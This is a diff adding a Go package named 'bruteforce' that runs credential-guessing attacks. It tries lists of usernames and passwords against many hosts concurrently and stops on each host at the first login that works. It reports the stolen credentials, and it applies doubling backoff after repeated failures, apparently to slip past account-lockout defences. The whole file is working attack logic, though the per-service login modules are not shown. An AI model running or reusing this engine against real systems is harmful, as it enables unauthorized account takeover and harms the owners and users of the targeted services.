@@ -0,0 +1,113 @@
+package bruteforce
+
+import (
+	"context"
+	"sync"
+	"time"
+)
+
+// Config controls how Run paces its attempts.
+type Config struct {
+	// Concurrency caps how many targets are attacked at once. Credentials
+	// within a single target are always tried serially, in order.
+	Concurrency int
+	// LockoutThreshold is how many consecutive failed attempts against a
+	// single target trigger a backoff sleep before the next attempt.
+	LockoutThreshold int
+	// LockoutBackoff is the base sleep applied at the first lockout; it
+	// doubles every time the threshold is hit again against the same
+	// target.
+	LockoutBackoff time.Duration
+	// Timeout is the hard ceiling on the whole Run call, across every
+	// target and credential.
+	Timeout time.Duration
+}
+
+// Run tries creds against every target, stopping early on a target as
+// soon as one credential succeeds. It returns every successful login
+// found before cfg.Timeout elapses.
+func Run(targets []Target, creds []Credential, cfg Config) []Result {
+	ctx, cancel := context.WithTimeout(context.Background(), cfg.Timeout)
+	defer cancel()
+
+	targetChan := make(chan Target, len(targets))
+	for _, t := range targets {
+		targetChan <- t
+	}
+	close(targetChan)
+
+	var (
+		mu      sync.Mutex
+		results []Result
+		wg      sync.WaitGroup
+	)
+
+	concurrency := cfg.Concurrency
+	if concurrency < 1 {
+		concurrency = 1
+	}
+
+	for i := 0; i < concurrency; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for target := range targetChan {
+				attempter, ok := registry[target.Service]
+				if !ok {
+					continue
+				}
+				if r, found := attackTarget(ctx, attempter, target, creds, cfg); found {
+					mu.Lock()
+					results = append(results, r)
+					mu.Unlock()
+				}
+			}
+		}()
+	}
+
+	wg.Wait()
+	return results
+}
+
+// attackTarget tries creds against a single target in order, applying
+// lockout backoff after consecutive failures, until one succeeds, all
+// are exhausted, or ctx expires.
+func attackTarget(ctx context.Context, a Attempter, target Target, creds []Credential, cfg Config) (Result, bool) {
+	threshold := cfg.LockoutThreshold
+	if threshold < 1 {
+		threshold = 1
+	}
+
+	consecutiveFailures := 0
+	for _, cred := range creds {
+		if ctx.Err() != nil {
+			return Result{}, false
+		}
+
+		ok, err := a.Try(target.Host, target.Port, cred)
+		if err != nil {
+			consecutiveFailures++
+		} else if ok {
+			return Result{
+				Host:     target.Host,
+				Port:     target.Port,
+				Service:  target.Service,
+				Username: cred.Username,
+				Password: cred.Password,
+			}, true
+		} else {
+			consecutiveFailures++
+		}
+
+		if consecutiveFailures > 0 && consecutiveFailures%threshold == 0 {
+			backoff := cfg.LockoutBackoff << uint(consecutiveFailures/threshold-1)
+			select {
+			case <-time.After(backoff):
+			case <-ctx.Done():
+				return Result{}, false
+			}
+		}
+	}
+
+	return Result{}, false
+}